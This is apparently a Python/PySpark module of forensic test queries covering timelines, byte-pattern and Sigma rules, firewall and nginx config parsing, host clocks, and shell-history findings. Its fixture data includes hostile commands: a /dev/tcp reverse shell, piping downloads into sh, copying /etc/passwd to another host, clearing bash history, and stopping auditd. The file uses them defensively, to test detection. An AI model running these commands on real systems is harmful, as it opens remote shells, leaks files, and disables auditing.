"""Queries on whole cases: the timeline, rules on bytes, gated Sigma rules and their coverage, nested blocks, the kernel's clock."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..extract import logs
from ..operators import blocks, byte_rules, clock, correlate, sessions, sigma_gates, tradecraft, votes
from ..operators import timeline as tl
from ..sources import collector
from .catalog import query, table
from .text_queries import RULES

_TIMELINE = """
SELECT ts, 'events' AS "table", CAST(event_id AS VARCHAR) AS key, event_type AS event, 'user ' || user_id AS detail, CASE event_type WHEN 'error' THEN 'MEDIUM' ELSE 'INFO' END AS severity FROM events
UNION ALL SELECT CAST(o_orderdate AS TIMESTAMP), 'orders', CAST(o_orderkey AS VARCHAR), 'order ' || o_orderstatus, o_orderpriority, CASE WHEN o_orderpriority LIKE '1%' THEN 'HIGH' ELSE 'INFO' END FROM orders
UNION ALL SELECT CAST(l_shipdate AS TIMESTAMP), 'lineitem', l_orderkey || '/' || l_linenumber, 'shipped', l_linestatus, 'INFO' FROM lineitem
UNION ALL SELECT CAST(l_shipdate AS TIMESTAMP) + INTERVAL 30 DAY, 'lineitem', l_orderkey || '/' || l_linenumber, 'due', l_linestatus, CASE WHEN l_returnflag = 'R' THEN 'LOW' ELSE 'INFO' END FROM lineitem
"""


def _timeline(spark: SparkSession, sf_dir: str) -> DataFrame:
    e, o, i = (table(spark, sf_dir, n) for n in ("events", "orders", "lineitem"))
    item = F.concat_ws("/", F.col("l_orderkey").cast("string"), F.col("l_linenumber").cast("string"))
    low = F.when(F.col("l_returnflag") == "R", "LOW").otherwise("INFO")
    return tl.timeline({
        "events": (e, [tl.Source(F.col("ts"), F.col("event_id"), F.col("event_type"), F.concat(F.lit("user "), F.col("user_id").cast("string")), F.when(F.col("event_type") == "error", "MEDIUM").otherwise("INFO"))]),
        "orders": (o, [tl.Source(F.col("o_orderdate"), F.col("o_orderkey"), F.concat(F.lit("order "), "o_orderstatus"), F.col("o_orderpriority"), F.when(F.col("o_orderpriority").startswith("1"), "HIGH").otherwise("INFO"))]),
        "lineitem": (i, [tl.Source(F.col("l_shipdate"), item, F.lit("shipped"), F.col("l_linestatus")), tl.Source(F.date_add("l_shipdate", 30), item, F.lit("due"), F.col("l_linestatus"), low)]),
    })


@query(f"SELECT row_number() OVER (ORDER BY ts, \"table\", key, event, detail, severity) AS number, \"table\", key, event, detail, severity, strftime(ts, '%Y-%m-%d %H:%M:%S') AS at FROM ({_TIMELINE})")
def case_timeline(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = tl.numbered(_timeline(spark, sf_dir))
    return rows.select("number", "table", "key", "event", "detail", "severity", F.date_format("ts", "yyyy-MM-dd HH:mm:ss").alias("at"))


@query(f"SELECT \"table\", key, event, detail FROM ({_TIMELINE}) WHERE ts >= TIMESTAMP '1996-06-01' AND ts < TIMESTAMP '1997-06-01' ORDER BY ts, \"table\", key, event, detail, severity LIMIT 300 OFFSET 300")
def timeline_page(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The second page of a year: what follows the last row of the first."""
    rows, start, end = _timeline(spark, sf_dir), "1996-06-01", "1997-06-01"
    last = tl.page(rows, start, end, 300).collect()[-1]
    return tl.page(rows, start, end, 300, after=tuple(str(last["ts"]) if c == "ts" else last[c] for c in tl.ORDER)).select("table", "key", "event", "detail")


@query(f"SELECT \"table\", severity, strftime(date_trunc('month', ts), '%Y-%m') AS month, count(*) AS n FROM ({_TIMELINE}) GROUP BY 1, 2, 3")
def timeline_density(spark: SparkSession, sf_dir: str) -> DataFrame:
    return tl.by_severity(_timeline(spark, sf_dir), "month").select("table", "severity", F.date_format("at", "yyyy-MM").alias("month"), "n")


BYTE_RULES = [
    byte_rules.ByteRule("many articles", {"$the": byte_rules.Text("the ", nocase=True), "$th": byte_rules.Hex("74 68 ?? 20")}, "#the > 3 and $th"),
    byte_rules.ByteRule("nd then t", {"$jump": byte_rules.Hex("6E 64 [1-4] 74"), "$either": byte_rules.Hex("( 6C 65 | 6C 61 ) 20")}, "#jump > 1 or #either >= 5"),
    byte_rules.ByteRule("begins with Th in a small file", {"$top": byte_rules.Hex("5? 68"), "$dot": byte_rules.Text(".")}, "$top at 0 and filesize < 2000 and #dot >= 2"),
    byte_rules.ByteRule("neither", {"$a": byte_rules.Text("ing "), "$b": byte_rules.Text("eau")}, "not any of them and filesize > 10"),
]


@query("""
WITH d AS (SELECT doc_id, text, octet_length(encode(text)) AS size, regexp_replace(hex(encode(text)), '(..)', '\\1 ', 'g') AS h FROM documents),
c AS (SELECT *,
  len(regexp_extract_all(h, '[57]4 [46]8 [46]5 20 ')) AS the, len(regexp_extract_all(h, '74 68 .. 20 ')) AS th, len(regexp_extract_all(h, '6C 6[51] 20 ')) AS either,
  len(regexp_extract_all(h, '2E ')) AS dot, len(regexp_extract_all(h, '69 6E 67 20 ')) AS ing, len(regexp_extract_all(h, '65 61 75 ')) AS eau, string_split(h, '6E 64 ') AS p FROM d),
j AS (SELECT *, len(list_filter(range(1, len(p)), lambda i: regexp_matches(array_to_string(p[i + 1:i + 4], '6E 64 '), '^(.. ){1,4}74 '))) AS jump FROM c)
SELECT doc_id, 'many articles' AS rule, size, the AS first_count, th AS second_count FROM j WHERE the > 3 AND th > 0
UNION ALL SELECT doc_id, 'nd then t', size, jump, either FROM j WHERE jump > 1 OR either >= 5
UNION ALL SELECT doc_id, 'begins with Th in a small file', size, len(regexp_extract_all(h, '5. 68 ')), dot FROM j WHERE regexp_matches(h, '^5. 68 ') AND size < 2000 AND dot >= 2
UNION ALL SELECT doc_id, 'neither', size, ing, eau FROM j WHERE ing = 0 AND eau = 0 AND size > 10
""")
def byte_pattern_rules(spark: SparkSession, sf_dir: str) -> DataFrame:
    files = table(spark, sf_dir, "documents").select("doc_id", F.col("text").cast("binary").alias("content"))
    hits = byte_rules.matches(files, BYTE_RULES, ["doc_id"], chunk=1 << 10)
    counts = F.map_values("counts")
    return hits.select("doc_id", "rule", F.col("size").cast("long").alias("size"), counts[0].alias("first_count"), counts[1].alias("second_count"))


MORE_RULES = [
    *RULES,
    {"title": "Tracked page", "level": "medium", "detection": {"t": {"html|contains": "track("}, "f": {"url|startswith": "https://"}, "condition": "t and not f"}},
    {"title": "Words anywhere", "level": "low", "detection": {"keywords": ["license", "copyright"], "condition": "keywords"}},
    {"title": "Child of a shell", "level": "high", "detection": {"img": {"Image|endswith": "/sh"}, "u": {"url|contains": "http"}, "condition": "img and u"}},
    {"title": "No user named", "level": "low", "detection": {"u": {"User": None}, "top": {"url|endswith": "#top"}, "condition": "u and top"}},
    {"title": "Two of three", "level": "high", "detection": {"a1": {"url|contains": "/de/"}, "a2": {"html|contains": "track("}, "a3": {"CommandLine|contains": "curl"}, "condition": "2 of a*"}},
    {"title": "Contradiction", "level": "low", "detection": {"a": {"url|contains": "http"}, "condition": "a and not a"}},
    {"title": "Counting", "level": "low", "detection": {"a": {"url|contains": "http"}, "condition": "a | count() > 5"}},
]
_RULED = {
    "German page": "contains(u, '/de/')",
    "Mobile host without anchor": "(u LIKE 'http://m.%' OR u LIKE 'https://m.%') AND NOT contains(u, '#')",
    "Org site in Spanish or French": "contains(u, '.example.org/') AND (contains(u, '/es/') OR contains(u, '/fr/'))",
    "Top anchor, any case": "u LIKE '%#top' AND u LIKE 'http%://%th%'",
    "Tracked page": "contains(h, 'track(') AND NOT u LIKE 'https://%'",
    "Words anywhere": "regexp_matches(concat_ws(' ', page_id, u, h), '(^|[^a-z0-9])(license|copyright)')",
    "Child of a shell": "false",
    "No user named": "u LIKE '%#top'",
    "Two of three": "contains(u, '/de/') AND contains(h, 'track(')",
    "Contradiction": "false",
    "Counting": "false",
}
_WHY = {"Child of a shell": "no field Image", "Contradiction": "its condition is never true", "Counting": "aggregations are not supported"}


@query("\nUNION ALL ".join(f"SELECT '{r}' AS rule, page_id, count(*) OVER () AS count FROM (SELECT page_id, lower(url) AS u, lower(html) AS h FROM pages) WHERE {test}" for r, test in _RULED.items()))
def sigma_gated(spark: SparkSession, sf_dir: str) -> DataFrame:
    pages = table(spark, sf_dir, "pages").select("page_id", "url", "html")
    return sigma_gates.gated_matches(pages, MORE_RULES, ["page_id"], most=1 << 31)[0].select("rule", "page_id", "count")


@query(
    "\nUNION ALL ".join(
        f"SELECT '{r}' AS rule, 'pages' AS \"table\", {'false' if r in _WHY else 'true'} AS can_hit, '{_WHY.get(r, '')}' AS why_not, count(*) AS hits FROM (SELECT page_id, lower(url) AS u, lower(html) AS h FROM pages) WHERE {test}"
        for r, test in _RULED.items()
    )
)
def sigma_coverage(spark: SparkSession, sf_dir: str) -> DataFrame:
    pages = table(spark, sf_dir, "pages").select("page_id", "url", "html")
    return sigma_gates.coverage_table({"pages": pages}, MORE_RULES)


# A firewall's rule set for each nation: a chain for each of its suppliers, written as nft prints it.
@query("""
SELECT '/etc/nft/' || s_nationkey AS source, 'inet' AS family, 'n' || s_nationkey AS "table", 'c' || s_suppkey AS chain, CASE WHEN s_suppkey % 2 = 0 THEN 'input' ELSE 'forward' END AS hook,
  CASE WHEN s_suppkey % 3 = 0 THEN 'drop' ELSE 'accept' END AS policy, unnest(['tcp dport ' || (s_suppkey % 60000) || ' accept', 'ip saddr 10.0.0.' || (s_suppkey % 250) || ' drop']) AS rule FROM supplier
""")
def nested_firewall(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("s_suppkey")
    hook = F.format_string("type filter hook %s priority 0; policy %s;", F.when(k % 2 == 0, "input").otherwise("forward"), F.when(k % 3 == 0, "drop").otherwise("accept"))
    body = F.array(F.format_string("\tchain c%d {", k), F.concat(F.lit("\t\t"), hook), F.format_string("\t\ttcp dport %d accept # by number", k % 60000), F.format_string("\t\tip saddr 10.0.0.%d drop", k % 250), F.lit("\t}"))
    s = table(spark, sf_dir, "supplier").select(F.format_string("/etc/nft/%d", "s_nationkey").alias("path"), "s_nationkey", (k * 10).alias("at"), F.posexplode(body).alias("i", "line"))
    inner = s.select("path", (F.col("at") + F.col("i")).alias("line_no"), "line")
    ends = s.select("path", "s_nationkey").distinct()
    top = ends.select("path", F.lit(-1).cast("long").alias("line_no"), F.format_string("table inet n%d {", "s_nationkey").alias("line"))
    bottom = ends.select("path", F.lit(1 << 60).alias("line_no"), F.lit("}").alias("line"))
    return blocks.nft_rules(inner.unionByName(top).unionByName(bottom)).select("source", "family", "table", "chain", "hook", "policy", "rule")


# A site for each customer segment and nation, a location for each customer.
@query("""
SELECT '/etc/nginx/' || c_nationkey AS source, d.directive AS directive, CASE d.directive WHEN 'root' THEN '/srv/' || c_custkey WHEN 'deny' THEN 'all' ELSE 'on' END AS value,
  'http > server > location /' || c_custkey || CASE d.directive WHEN 'deny' THEN ' > limit_except GET' ELSE '' END AS context, count(*) AS n
FROM customer, (SELECT unnest(['root', 'deny', 'gzip']) AS directive) d GROUP BY ALL
""")
def nested_web_config(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("c_custkey")
    body = F.array(F.format_string("location /%d {", k), F.format_string("  root /srv/%d;", k), F.lit("  limit_except GET {"), F.lit("    deny all;"), F.lit("  }"), F.lit("  # a comment {"), F.lit("  gzip on;"), F.lit("}"))
    c = table(spark, sf_dir, "customer").select(F.format_string("/etc/nginx/%d", "c_nationkey").alias("path"), (k * 10).alias("at"), F.posexplode(body).alias("i", "line"))
    ends = c.select("path").distinct().select("path", F.inline(F.array(*(F.struct(F.lit(n).cast("long").alias("line_no"), F.lit(x).alias("line")) for n, x in ((-2, "http {"), (-1, "server {"), (1 << 60, "}"), ((1 << 60) + 1, "}"))))))
    found = blocks.web_config(c.select("path", (F.col("at") + F.col("i")).alias("line_no"), "line").unionByName(ends))
    return found.groupBy("source", "directive", "value", "context").agg(F.count("*").alias("n"))


# Kernel messages of hosts: offsets since a known boot, every third with a wall time, some of them by a stepped clock.
_RING = """
SELECT event_id, user_id % 23 AS host, event_id * 0.25 AS offset_s, CASE WHEN user_id % 23 = 22 THEN NULL ELSE TIMESTAMP '2026-03-01 04:00:00' + to_hours(CAST(user_id % 23 AS INTEGER)) END AS booted FROM events
"""


@query(f"SELECT event_id, host, strftime(booted + to_microseconds(CAST(offset_s * 1000000 AS BIGINT)), '%Y-%m-%d %H:%M:%S.%f') AS at FROM ({_RING})")
def kernel_clock(spark: SparkSession, sf_dir: str) -> DataFrame:
    host = (F.col("user_id") % 23).alias("host")
    e = table(spark, sf_dir, "events").select("event_id", host, (F.col("event_id") * 0.25).alias("offset_s"))
    boot = F.unix_micros(F.lit("2026-03-01 04:00:00").cast("timestamp")) + F.col("host") * 3_600_000_000
    stepped = F.when(F.col("event_id") % 5 == 0, -86_400_000_000).otherwise(0)
    wall = F.timestamp_micros((boot + F.round(F.col("offset_s") * 1_000_000).cast("long") + stepped).cast("long"))
    pairs = e.where((F.col("event_id") % 3 == 0) & (F.col("host") != 22)).select("host", wall.alias("wall"), "offset_s")
    found = clock.dated(e, clock.boot_instants(pairs, ["host"]), ["host"])
    return found.select("event_id", "host", F.date_format("timestamp_utc", "yyyy-MM-dd HH:mm:ss.SSSSSS").alias("at"))


# Hosts whose clocks run at offsets of their own: some state it, all log with it now and then, one contradicts itself.
_HOSTS = "SELECT *, user_id % 13 AS h, (CAST(user_id % 13 AS INTEGER) - 6) * 3600 AS off FROM events"


@query(f"SELECT h AS host, event_id, strftime(ts, '%Y-%m-%d %H:%M:%S') AS at FROM ({_HOSTS})")
def clocks_by_vote(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Lines without an offset are dated by the offset that their host's other lines speak for."""
    e = table(spark, sf_dir, "events").select("event_id", (F.col("user_id") % 13).alias("h"), F.date_trunc("second", "ts").alias("ts"))
    off = (F.col("h") - 6) * 3600
    shown = lambda seconds: F.date_format(F.timestamp_seconds(F.unix_seconds("ts") + seconds), "yyyy-MM-dd HH:mm:ss")
    zone = lambda h: F.concat(F.when(h < 6, "-").otherwise("+"), F.lpad(F.abs(h - 6).cast("string"), 2, "0"), F.lit("00"))
    wrong = F.when(F.col("event_id") % 11 == 0, (F.col("h") + 5) % 13).otherwise(F.col("h"))
    logged = F.concat(F.replace(shown(off), F.lit(" "), F.lit("T")), zone(wrong), F.lit(" web cron: x"))
    stated = F.concat(F.lit("       Time zone: Area/City (XXT, "), zone(F.col("h")), F.lit(")"))
    proof = e.where("event_id % 4 = 0").select("h", logged.alias("line")).unionByName(e.where("h % 2 = 0 AND event_id % 97 = 0").select("h", stated.alias("line")))
    offsets = votes.decided(votes.offset_evidence(proof, ["h"]), ["h"])
    bare = e.select("h", F.concat(F.lit("/host/"), F.col("h").cast("string")).alias("path"), F.col("event_id").alias("line_no"), F.concat(shown(off), F.lit(" web app: message")).alias("line"))
    log = logs.var_log(votes.with_offsets(bare, offsets, ["h"]), host_offset_s=F.col("host_offset_s"))
    return log.select(F.substring_index("log", "/", -1).cast("long").alias("host"), F.col("line_no").alias("event_id"), F.date_format("timestamp_utc", "yyyy-MM-dd HH:mm:ss").alias("at"))


@query("""
WITH c AS (SELECT event_id, user_id % 40 AS host, (user_id * 7 + event_id) % 55 AS named, event_id % 3 AS kind FROM events)
SELECT host, named AS named_host, CASE kind WHEN 0 THEN 'h' || named || '.lan' WHEN 1 THEN '10.9.0.' || named ELSE 'h' || named END AS token, count(*) AS n FROM c WHERE named IN (SELECT host FROM c) AND named <> host GROUP BY ALL
""")
def commands_to_hosts(spark: SparkSession, sf_dir: str) -> DataFrame:
    named = (F.col("user_id") * 7 + F.col("event_id")) % 55
    said = F.when(F.col("event_id") % 3 == 0, F.format_string("ssh -p 2222 root@h%d.lan 'id'", named)).when(F.col("event_id") % 3 == 1, F.format_string("scp /etc/passwd 10.9.0.%d:/tmp/h.txt", named)).otherwise(F.format_string("curl http://H%d:8080/x.sh|sh", named))
    c = table(spark, sf_dir, "events").select("event_id", (F.col("user_id") % 40).alias("host"), said.alias("command"))
    ids = table(spark, sf_dir, "events").select((F.col("user_id") % 40).alias("host")).distinct()
    ids = ids.select("host", F.explode(F.array(F.format_string("h%d.lan", "host"), F.format_string("10.9.0.%d", "host"), F.format_string("H%d", "host"))).alias("value"))
    found = correlate.commands_naming_hosts(c, ids, ["event_id"])
    return found.groupBy("host", "named_host", "token").agg(F.count("*").alias("n"))


@query("""
WITH b AS (SELECT user_id, ts FROM events WHERE event_type = 'signup'), r AS (SELECT event_id, user_id, ts FROM events WHERE event_type <> 'signup'),
s AS (SELECT r.event_id, r.user_id, (SELECT max(b.ts) FROM b WHERE b.user_id = r.user_id AND b.ts <= r.ts) AS boot, (SELECT max(b.ts) FROM b WHERE b.user_id = r.user_id) AS last FROM r)
SELECT user_id, strftime(boot, '%Y-%m-%d %H:%M:%S.%f') AS boot, coalesce(boot = last, false) AS newest, count(*) AS n FROM s GROUP BY ALL
""")
def rows_by_boot(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events").select("event_id", "user_id", "ts", "event_type")
    rows = sessions.boot_segments(e.where("event_type <> 'signup'"), e.where("event_type = 'signup'"), ["user_id"], "ts")
    return rows.groupBy("user_id", F.date_format("boot", "yyyy-MM-dd HH:mm:ss.SSSSSS").alias("boot"), "newest").agg(F.count("*").alias("n"))


@query("""
WITH m AS (SELECT DISTINCT user_id % 500 AS host, ts, CASE event_type WHEN 'signup' THEN 'BOOT' ELSE 'SHUTDOWN' END AS kind FROM events WHERE event_type IN ('signup', 'error')),
n AS (SELECT *, lead(kind) OVER w AS next_kind, lead(ts) OVER w AS next_ts FROM m WINDOW w AS (PARTITION BY host ORDER BY ts, CASE kind WHEN 'SHUTDOWN' THEN 0 ELSE 1 END))
SELECT host, strftime(ts, '%Y-%m-%d %H:%M:%S.%f') AS boot, strftime(next_ts, '%Y-%m-%d %H:%M:%S.%f') AS next_boot FROM n WHERE kind = 'BOOT' AND next_kind = 'BOOT'
""")
def boots_without_shutdown(spark: SparkSession, sf_dir: str) -> DataFrame:
    kind = F.when(F.col("event_type") == "signup", "BOOT").when(F.col("event_type") == "error", "SHUTDOWN")
    e = table(spark, sf_dir, "events").select((F.col("user_id") % 500).alias("host"), "ts", kind.alias("type")).where("type IS NOT NULL")
    shown = lambda c: F.date_format(c, "yyyy-MM-dd HH:mm:ss.SSSSSS").alias(c)
    return sessions.unclean_boots(e, ["host"], "ts").select("host", shown("boot"), shown("next_boot"))


@query("""
WITH e AS (SELECT *, 'Linux.' || event_type AS artifact FROM events WHERE event_id % 50 <> 0)
SELECT artifact, 'id' AS name, 'bigint' AS type, count(*) AS n, CAST(sum(event_id) AS DOUBLE) AS total FROM e GROUP BY ALL
UNION ALL SELECT artifact, 'value', 'double', count(value), round(sum(round(value, 2)), 2) FROM e GROUP BY ALL
UNION ALL SELECT artifact, 'big', 'boolean', count(*), CAST(count(*) FILTER (user_id % 2 = 0) AS DOUBLE) FROM e WHERE event_type = 'error' GROUP BY ALL
UNION ALL SELECT artifact, 'who', 'string', count(*), CAST(sum(length('user ' || user_id)) AS DOUBLE) FROM e GROUP BY ALL
UNION ALL SELECT '(bad)', 'line', 'string', count(*), NULL FROM events WHERE event_id % 50 = 0
""")
def collector_artifacts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Columns that nobody declared, found and typed for each artifact; cut lines are kept apart."""
    row = F.to_json(F.struct(F.concat(F.lit("Linux."), "event_type").alias("_Source"), F.col("event_id").alias("id"), F.round("value", 2).cast("double").alias("value"), F.when(F.col("event_type") == "error", F.col("user_id") % 2 == 0).alias("big"), F.concat(F.lit("user "), F.col("user_id").cast("string")).alias("who")))
    line = F.when(F.col("event_id") % 50 == 0, F.substring(row, 1, 20)).otherwise(row)
    lines = table(spark, sf_dir, "events").select(F.lit("/results.json").alias("path"), F.col("event_id").alias("line_no"), line.alias("line"))
    rows, bad = collector.parsed(lines, F.try_variant_get("v", "$._Source", "string"))
    out = bad.agg(F.lit("(bad)").alias("artifact"), F.lit("line").alias("name"), F.lit("string").alias("type"), F.count("*").alias("n"), F.lit(None).cast("double").alias("total"))
    for artifact, columns in sorted(collector.schemas(rows).items()):
        t = collector.artifact_table(rows, artifact, {n: k if n != "value" else "DOUBLE" for n, k in columns.items() if n != "_Source"})
        size = {"string": F.length, "boolean": lambda c: F.col(c).cast("int")}
        for name, kind in t.dtypes[2:]:
            total = F.sum(size.get(kind, F.col)(name)).cast("double")
            out = out.unionByName(t.agg(F.lit(artifact).alias("artifact"), F.lit(name).alias("name"), F.lit(kind).alias("type"), F.count(name).alias("n"), F.round(total, 2).alias("total")))
    return out


# Commands by number, with what is to be said of them.
COMMANDS = {
    0: ("ls -la /home", "", ""),
    1: ("curl -s http://x.example/a.sh -o a.sh", "LOW", "download"),
    2: ("wget https://x.example/b -O- | /bin/sh", "HIGH", "download run by a shell"),
    3: ("bash -i >& /dev/tcp/10.0.0.9/4444 0>&1", "CRITICAL", "shell over a network connection"),
    4: ("/tmp/.x/run --quiet", "HIGH", "program run from a temporary folder"),
    5: ("history -c && rm -f ~/.bash_history", "HIGH", "history cleared or switched off"),
    6: ("systemctl stop auditd", "MEDIUM", "protection switched off"),
    7: ("curl https://x.example/readme", "LOW", "download"),
    8: ("vim /etc/hosts", "", ""),
    9: ("chmod 4755 /usr/local/bin/x", "HIGH", "setuid put on a file"),
}


@query(f"""
WITH c AS (SELECT * FROM (VALUES {", ".join(f"({i}, '{s}', '{w}')" for i, (_, s, w) in COMMANDS.items())}) v(i, severity, why)),
h AS (SELECT 'u' || (user_id % 150) AS "user", severity, why, ts FROM events JOIN c ON (event_id * 7 + user_id) % 10 = i WHERE severity <> ''),
r AS (SELECT *, CASE severity WHEN 'CRITICAL' THEN 0 WHEN 'HIGH' THEN 1 WHEN 'MEDIUM' THEN 2 ELSE 3 END AS rank FROM h)
SELECT "user", arg_min(severity, rank) AS severity, 'Suspicious commands in shell history' AS title, count(*) AS "count", count(DISTINCT why) AS reasons, strftime(date_trunc('second', min(ts)), '%Y-%m-%d %H:%M:%S') AS first FROM r GROUP BY 1
""")
def history_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Commands and their time marks as bash writes them, one history for each user, read back and judged."""
    user = F.format_string("u%d", F.col("user_id") % 150)
    said = F.element_at(F.array(*(F.lit(c) for c, _, _ in COMMANDS.values())), ((F.col("event_id") * 7 + F.col("user_id")) % 10 + 1).cast("int"))
    pair = F.posexplode(F.array(F.concat(F.lit("#"), F.unix_seconds(F.col("ts").cast("timestamp")).cast("string")), said)).alias("i", "line")
    e = table(spark, sf_dir, "events").select(F.concat(F.lit("/home/"), user, F.lit("/.bash_history")).alias("path"), user.alias("u"), "event_id", pair)
    homes = e.select(F.col("u").alias("user"), F.concat(F.lit("/home/"), "u").alias("home")).distinct()
    history = logs.shell_history(e.select("path", (F.col("event_id") * 2 + F.col("i")).alias("line_no"), "line"), homes)
    found = tradecraft.history_findings(history, ("user",))
    return found.select("user", "severity", "title", "count", F.size("reasons").cast("long").alias("reasons"), F.date_format("first_utc", "yyyy-MM-dd HH:mm:ss").alias("first"))
